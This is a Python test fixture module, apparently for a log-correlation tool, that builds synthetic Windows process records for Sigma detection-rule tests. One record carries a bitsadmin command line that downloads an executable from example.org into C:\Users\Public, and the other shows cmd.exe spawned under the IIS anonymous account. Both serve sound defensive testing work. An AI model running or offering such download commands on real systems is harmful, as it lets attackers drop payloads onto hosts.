"""Records as the readers will build them, for the Sigma tests: Sysmon 1 and legacy."""

from __future__ import annotations

from typing import Any

from correlog import EventKind, Layout, Reason, Record, Status


def sysmon_record(**kw: Any) -> Record:
    """A record from one Sysmon event 1 (channel ``sysmon``), fields overridable."""
    fields: dict[str, Any] = {
        "host": "ws1",
        "pid": 7732,
        "image": r"C:\Windows\System32\bitsadmin.exe",
        "user": "xodih",
        "domain": "WS1",
        "logon_id": 0x317FB,
        "owner_source": EventKind.CREATED,
        "creator_pid": 14736,
        "creator_image": r"C:\Windows\System32\cmd.exe",
        "start": 0,
        "end": None,
        "status": Status.PARTIAL,
        "reason": Reason.FLUSHED,
        "provenance": (1, 18463),
        "layout": Layout.VISTA,
        "first_seen": 0,
        "channel": "sysmon",
        "command_line": "bitsadmin /transfer n https://example.org/a.exe C:\\Users\\Public\\a.exe",
        "integrity": "Medium",
        "extra": {
            "OriginalFileName": "bitsadmin.exe",
            "Hashes": (
                "MD5=4FCFE1D61E6D962F06CE2B61FC11BC0F,IMPHASH=44794EEDDEB70144ABA2F1483E762F30"
            ),
            "CurrentDirectory": "C:\\Users\\xodih\\AppData\\Local\\Temp\\",
            "ParentCommandLine": "cmd.exe /c run.bat",
            "Company": "Microsoft Corporation",
            "Product": "Microsoft® Windows® Operating System",
            "Description": "BITS administration utility",
            "ParentUser": "WS1\\xodih",
            "TerminalSessionId": "1",
        },
    }
    fields.update(kw)
    return Record(**fields)


def legacy_record(**kw: Any) -> Record:
    """A Windows 2000 record from a 592 and a 593 (no command line, no file metadata)."""
    fields: dict[str, Any] = {
        "host": "web2k",
        "pid": 1452,
        "image": r"\WINNT\system32\cmd.exe",
        "user": "IUSR_WEB2K",
        "domain": "WEB2K",
        "logon_id": 0x2A3C1,
        "owner_source": EventKind.EXITED,
        "creator_pid": 1020,
        "creator_image": r"\WINNT\system32\dllhost.exe",
        "start": 0,
        "end": 4_000_000_000,
        "status": Status.COMPLETE,
        "reason": Reason.EXITED,
        "provenance": (592, 7104, 593, 7105),
        "layout": Layout.NT4_2000,
        "first_seen": 0,
    }
    fields.update(kw)
    return Record(**fields)
